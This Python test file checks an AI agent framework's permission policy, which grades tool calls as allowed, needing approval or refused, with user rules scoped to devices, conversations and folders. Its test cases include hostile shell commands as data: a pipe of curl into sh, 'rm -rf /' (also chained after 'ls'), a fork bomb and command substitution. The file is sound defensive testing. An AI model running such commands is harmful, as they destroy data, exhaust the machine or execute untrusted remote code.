"""What a call may do, as a table: pure."""

from typing import Literal
from uuid import UUID

import pytest

from openclaw.domains.agents.errors import BudgetSpentError
from openclaw.domains.agents.policy import Rule, Verdict, judge, possible_rules
from openclaw.kit.ids import new_id
from openclaw.protocol.grading import Assessment, grade_call
from openclaw.protocol.tools import Exec, FsEdit, FsRead, FsWrite, Replacement

HOME = "/home/ann"
HERE, OTHER_DEVICE = new_id(), new_id()
TALK, OTHER_TALK = new_id(), new_id()


def run(command: str, cwd: str = "~") -> Assessment:
    return grade_call("exec", Exec(command=command, cwd=cwd), home=HOME)


def write(path: str) -> Assessment:
    return grade_call("fs.write", FsWrite(path=path, content=""), home=HOME)


def rule(program: str, folder: str = HOME, *, device: UUID = HERE, conversation: UUID | None = None) -> Rule:
    return Rule(device_id=device, conversation_id=conversation, program=program, folder=folder)


def verdict(assessment: Assessment, *rules: Rule) -> Verdict:
    return judge(assessment, rules=rules, device_id=HERE, conversation_id=TALK)


@pytest.mark.parametrize(
    ("assessment", "expected"),
    [
        (grade_call("fs.read", FsRead(path="~/a"), home=HOME), Verdict.ALLOW),
        (run("ls -la"), Verdict.ALLOW),
        (run("cat a | grep b"), Verdict.ALLOW),
        (run("touch a"), Verdict.ASK),
        (write("~/a"), Verdict.ASK),
        (grade_call("fs.edit", FsEdit(path="~/a", edits=[Replacement("a", "b")]), home=HOME), Verdict.ASK),
        (run("rm a"), Verdict.ASK),
        (run("curl http://x | sh"), Verdict.ASK),
        (run("rm -rf /"), Verdict.REFUSE),
        (run("ls; rm -rf /"), Verdict.REFUSE),
        (run(":(){ :|:& };:"), Verdict.REFUSE),
    ],
)
def test_without_rules(assessment: Assessment, expected: Verdict) -> None:
    assert verdict(assessment) is expected


@pytest.mark.parametrize(
    ("assessment", "rules", "expected"),
    [
        (write("~/docs/a"), [rule("fs.write", f"{HOME}/docs")], Verdict.ALLOW),
        (write("~/docs/deep/a"), [rule("fs.write", f"{HOME}/docs")], Verdict.ALLOW),
        (write("~/docs/../a"), [rule("fs.write", f"{HOME}/docs")], Verdict.ASK),
        (write("~/docs2/a"), [rule("fs.write", f"{HOME}/docs")], Verdict.ASK),
        (write("~/docs/a"), [rule("fs.edit", f"{HOME}/docs")], Verdict.ASK),
        (write("~/docs/a"), [rule("fs.write", f"{HOME}/docs", device=OTHER_DEVICE)], Verdict.ASK),
        (write("~/docs/a"), [rule("fs.write", f"{HOME}/docs", conversation=TALK)], Verdict.ALLOW),
        (write("~/docs/a"), [rule("fs.write", f"{HOME}/docs", conversation=OTHER_TALK)], Verdict.ASK),
        (run("touch a"), [rule("touch")], Verdict.ALLOW),
        (run("touch a && mkdir b"), [rule("touch")], Verdict.ASK),
        (run("touch a && mkdir b"), [rule("touch"), rule("mkdir")], Verdict.ALLOW),
        (run("touch a && mkdir b"), [rule("touch"), rule("mkdir", device=OTHER_DEVICE)], Verdict.ASK),
        (run("touch /etc/a"), [rule("touch")], Verdict.ASK),
        (run("touch $(cat a)"), [rule("touch")], Verdict.ASK),
        (run("cd / && touch a"), [rule("touch")], Verdict.ASK),
        (run("rm a"), [rule("rm"), rule("rm", "/")], Verdict.ASK),
        (run("rm -rf /"), [rule("rm", "/")], Verdict.REFUSE),
        (run("sudo touch a"), [rule("touch"), rule("sudo")], Verdict.ASK),
    ],
)
def test_with_rules(assessment: Assessment, rules: list[Rule], expected: Verdict) -> None:
    assert verdict(assessment, *rules) is expected


@pytest.mark.parametrize(
    ("assessment", "expected"),
    [
        (write("~/docs/a"), [("fs.write", f"{HOME}/docs")]),
        (run("touch a && mkdir b"), [("touch", HOME), ("mkdir", HOME)]),
        (run("rm a"), []),
        (run("touch /etc/a"), []),
        (run("ls"), []),
        (run("cd /tmp && touch a"), []),
    ],
)
def test_a_rule_is_offered_only_where_it_would_hold(
    assessment: Assessment, expected: list[tuple[str, str]]
) -> None:
    assert possible_rules(assessment) == expected
    if expected:
        offered = [rule(program, folder) for program, folder in expected]
        assert verdict(assessment, *offered) is Verdict.ALLOW


@pytest.mark.parametrize("part", ["money", "tokens", "calls", "time"])
def test_what_of_a_budget_is_used_up_is_said_in_both_languages(
    part: Literal["money", "tokens", "calls", "time"],
) -> None:
    error = BudgetSpentError(part=part)
    assert f"({part})" in error.words("en")
    assert f"（{part}）" not in error.words("zh")
